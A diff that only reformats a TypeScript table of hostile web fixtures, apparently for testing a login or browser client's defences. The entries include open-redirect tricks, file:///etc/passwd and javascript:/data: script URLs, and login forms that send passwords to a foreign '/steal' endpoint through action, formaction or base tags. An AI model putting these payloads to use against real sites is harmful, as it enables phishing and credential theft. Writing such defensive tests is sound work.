@@ -38,10 +38,14 @@ export const REDIRECTS: Record<string, Mischief> = {
     at: ["login"],
     reply: (usual, { form: sent, foreign }) => (sent.has("password") ? redirect(`${foreign}/after`, 307) : usual),
   },
-  "another host at the end of the path of ours": leading(({ own, foreign }) => `${own}/login/..//${new URL(foreign).host}`, 302, ["authorize"]),
+  "another host at the end of the path of ours": leading(
+    ({ own, foreign }) => `${own}/login/..//${new URL(foreign).host}`,
+    302,
+    ["authorize"],
+  ),
   "a file": leading(() => "file:///etc/passwd"),
   "a script": leading(() => "javascript:alert(1)"),
-  "data": leading(() => "data:text/html,<script>1</script>"),
+  data: leading(() => "data:text/html,<script>1</script>"),
   "what is no URL": leading(() => "http://[::1", 302),
   "two places at once": {
     at: pages,
@@ -59,9 +63,13 @@ export const REDIRECTS: Record<string, Mischief> = {
     reply: (_, { foreign }) => ({ ...page("x"), headers: [["refresh", `0; url=${foreign}/refresh`]] }),
   },
   "another host by the page": showing(({ foreign }) => `<meta http-equiv="refresh" content="0; url=${foreign}/meta">`),
-  "another host in a frame": showing(({ foreign }) => `<iframe src="${foreign}/frame"></iframe><img src="${foreign}/i">`),
+  "another host in a frame": showing(
+    ({ foreign }) => `<iframe src="${foreign}/frame"></iframe><img src="${foreign}/i">`,
+  ),
   "the password to another host": showing(({ foreign }) => form(`${foreign}/steal`)),
-  "the password to another host by the button": showing(({ foreign }) => form("/login", `formaction="${foreign}/steal"`)),
+  "the password to another host by the button": showing(({ foreign }) =>
+    form("/login", `formaction="${foreign}/steal"`),
+  ),
   "the password to another host by the base": showing(({ foreign }) => `<base href="${foreign}/">${form("steal")}`),
   "a form that sends itself to another host": showing(
     ({ foreign }) =>
